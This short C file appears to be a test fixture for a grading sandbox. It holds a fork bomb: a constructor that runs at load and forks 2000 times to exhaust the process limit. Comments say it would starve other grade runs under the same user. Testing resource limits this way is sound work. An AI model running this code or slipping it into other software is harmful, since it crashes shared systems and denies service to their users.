/* Forks as often as it can at load: every child forks too, up to the
 * process limit, and then every process serves the grader's pipe. */
// costs: all
// lane: alone (its runner user's processes count together: a bomb takes those of any other grade run as that user)
__attribute__((constructor)) static void attack(void)
{
    for (int i = 0; i < 2000; i++)
        fork();
}
